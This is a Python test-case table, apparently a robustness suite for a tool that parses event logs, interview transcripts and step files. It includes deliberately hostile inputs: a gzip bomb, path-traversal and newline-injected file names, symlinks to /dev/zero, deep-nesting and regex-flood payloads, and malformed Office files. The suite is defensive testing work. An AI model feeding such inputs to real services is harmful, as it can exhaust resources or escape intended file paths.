    Case("eventlog_no_case_column", "nocase.csv", _w("activity,timestamp\nA,2024-01-01\nB,2024-01-02\n"), E, "error",
         kind="eventlog"),
    Case("eventlog_one_event", "one.csv", _w("case_id,activity,timestamp\nc1,A,2024-01-01 10:00\n"), EJ, "either",
         kind="eventlog"),
    Case("eventlog_out_of_range_dates", "years.csv",
         _w("case_id,activity,timestamp\nc1,A,0001-01-01\nc1,B,9999-12-31 23:59:59\nc2,A,2024-01-01\n"), EJ,
         "either", kind="eventlog"),
    Case("eventlog_huge_epoch", "epoch.csv", _w("case_id,activity,timestamp\nc1,A,1e30\nc1,B,99999999999999999999\n"),
         E, "either", kind="eventlog"),
    Case("eventlog_1m_identical_ts", "same_ts.csv", b_many_identical(1_000_000), ("discover",), "either",
         timeout=90),
    Case("eventlog_100k_identical_ts_import", "same_ts_100k.csv", b_many_identical(100_000), ("import",), "either",
         kind="eventlog"),
    Case("gzip_bomb_csv_gz", "bomb.csv.gz", b_gzip_bomb_csv, E, "error", kind="eventlog"),
    # --- steps and participants
    Case("steps_duplicate_ids", "dup_steps.csv", _steps(["A,Solicitar,web,B", "B,Pagar,oficina,", "A,Otra,web,"]), S,
         "error", kind="steps"),
    Case("steps_unknown_next", "unknown_next.csv", _steps(["A,Solicitar,web,Z9", "B,Pagar,oficina,"]), S, "error",
         kind="steps"),
    Case("steps_loop", "loop.csv", _steps(["A,Solicitar,web,B", "B,Revisar,oficina,A;B"]), S, "ok", kind="steps"),
    Case("steps_missing_columns", "nosteps.csv", _w("Foo,Bar\n1,2\n"), S, "error", kind="steps"),
    Case("participants_without_id", "people.csv", _w("Nombre,Segmento,Edad\nAna,ciudadano,34\nLuis,empresa,51\n"),
         ("import",), "error", kind="participants"),
    # --- paths
    Case("path_traversal", "x.csv", b_traversal, T, "ok"),
    Case("backslash_traversal_name", "..\\..\\x.csv", _w(TRANSCRIPT_CSV), T, "ok"),
    Case("unicode_emoji_name", "entrevista ñandú 😀 ‮.csv", _w(TRANSCRIPT_CSV), T, "ok"),
    Case("newline_in_name", "evil\nname.csv", _w(TRANSCRIPT_CSV), T, "ok"),
    Case("directory", "folder.csv", b_dir, T + ("discover", "journey"), "error"),
    Case("missing_path", "nowhere.csv", b_missing, T + ("discover", "journey"), "error"),
    Case("symlink_dev_zero", "zero.csv", b_symlink("/dev/zero"), T + ("discover",), "error"),
    Case("symlink_dev_zero_xlsx", "zero.xlsx", b_symlink("/dev/zero"), T, "error"),
    Case("symlink_dev_urandom_txt", "urandom.txt", b_symlink("/dev/urandom"), T, "error"),
    Case("fifo_csv", "pipe.csv", b_fifo, T, "error"),
    # --- more shapes that break parsers: recursion, regex floods, dense graphs, kind mismatches
    Case("jsonl_deep_nesting", "deep.jsonl", b_deep_json, ("extract", "journey_painpoints"), "error"),
    Case("jsonl_binary", "noise.jsonl", b_random(4096, 5), ("extract", "journey_painpoints"), "error"),
    Case("jsonl_broken_line", "broken.jsonl", _w('{"text": "Muy lento"}\n{not json\n'),
         ("extract", "journey_painpoints"), "error"),
    Case("jsonl_not_objects", "arrays.jsonl", _w('[1, 2]\n"x"\nnull\n'), ("extract", "journey_painpoints"), "error"),
    Case("xes_deep_nesting", "deep.xes", b_deep_xes, EJ, "either", kind="eventlog"),
    Case("txt_50mb_turn", "long_turn.txt", b_long_turn, T, "either"),
    Case("txt_bracket_flood", "brackets.txt", _w("Ana: " + "[" * 2_000_000 + "\n" + "[00:00:" * 300_000 + "\n"), T,
         "either"),
    Case("txt_colon_flood", "colons.txt", _w(("a" * 40 + ":") * 200_000 + "\n"), T, "either"),
    Case("transcript_as_eventlog", "interview_log.csv", _w(TRANSCRIPT_CSV), E, "error", kind="eventlog"),
    Case("eventlog_as_transcript", "log_as_interview.csv", _w(EVENTLOG_CSV), ("utterances",), "error"),
    Case("xlsx_sheet_xml_not_well_formed", "badxml.xlsx",
         b_edit_part(_xlsx_bytes, "xl/worksheets/sheet1.xml", lambda x: x.replace("</sheetData>", "<row><c>", 1)),
         T, "error"),
    Case("xlsx_rows_beyond_excel", "rows.xlsx", b_edit_part(_xlsx_bytes, "xl/worksheets/sheet1.xml", _rows_beyond_excel),
         T, "either"),
    Case("xlsx_bad_cell_refs", "refs.xlsx",
         b_edit_part(_xlsx_bytes, "xl/worksheets/sheet1.xml", lambda x: x.replace('r="A2"', 'r="ZZZZZZ0"', 1)),
         T, "either"),
    Case("xlsx_shared_string_out_of_range", "sst.xlsx",
         b_edit_part(_xlsx_bytes, "xl/worksheets/sheet1.xml", _bad_shared_index), T, "either"),
    Case("xlsx_workbook_names_missing_sheet", "nosheet.xlsx",
         b_edit_part(_xlsx_bytes, "xl/_rels/workbook.xml.rels",
                     lambda x: x.replace("worksheets/sheet1.xml", "worksheets/missing.xml")), T, "error"),
    Case("docx_document_not_well_formed", "badxml.docx",
         b_edit_part(_docx_bytes, "word/document.xml", lambda x: x.replace("</w:body>", "<w:p><w:r>", 1)), T, "error"),
    Case("parquet_truncated", "cut.parquet", b_truncated_parquet, E, "error", kind="eventlog"),
    Case("xes_utf16", "utf16.xes", lambda p: p.write_bytes(_xes().replace('encoding="UTF-8"', 'encoding="UTF-16"')
                                                           .encode("utf-16")), E, "either", kind="eventlog"),
    Case("xes_events_without_timestamps", "nots.xes",
         lambda p: p.write_text(_xes(events_xml='<trace><string key="concept:name" value="c1"/><event>'
                                                '<string key="concept:name" value="A"/></event></trace>')),
         E, "error", kind="eventlog"),
    Case("steps_complete_graph_40", "dense_steps.csv", b_complete_steps(40), S, "either", kind="steps",
         notes="40 steps, each listing the 39 others as next steps: simple-cycle enumeration explodes"),
    Case("steps_semicolon_lists", "semicolon_steps.csv", b_complete_steps(6, sep=";"), S, "ok", kind="steps",
         notes="a comma CSV whose quoted next-step lists use ';' (as the steps reader documents)"),
]
